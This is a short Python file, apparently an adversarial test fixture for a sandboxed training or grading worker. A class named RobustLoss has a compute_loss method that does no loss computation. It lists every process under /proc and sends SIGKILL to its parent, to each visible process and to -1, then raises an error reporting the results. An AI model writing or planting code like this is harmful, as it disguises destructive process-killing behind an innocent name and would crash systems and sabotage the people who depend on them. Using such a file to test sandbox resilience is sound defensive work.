"""Hostile: kills its parent, init and every process it can see, hoping to take the worker down."""

import os
import signal


class RobustLoss:
    def compute_loss(self, logits, labels, epoch):
        visible = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
        outcomes = [f"visible={visible}", f"parent={os.getppid()}"]
        for pid in [os.getppid(), *visible, -1]:
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, signal.SIGKILL)
                outcomes.append(f"kill({pid})=sent")
            except OSError as error:
                outcomes.append(f"kill({pid})={type(error).__name__}")
        raise RuntimeError(" ".join(outcomes))
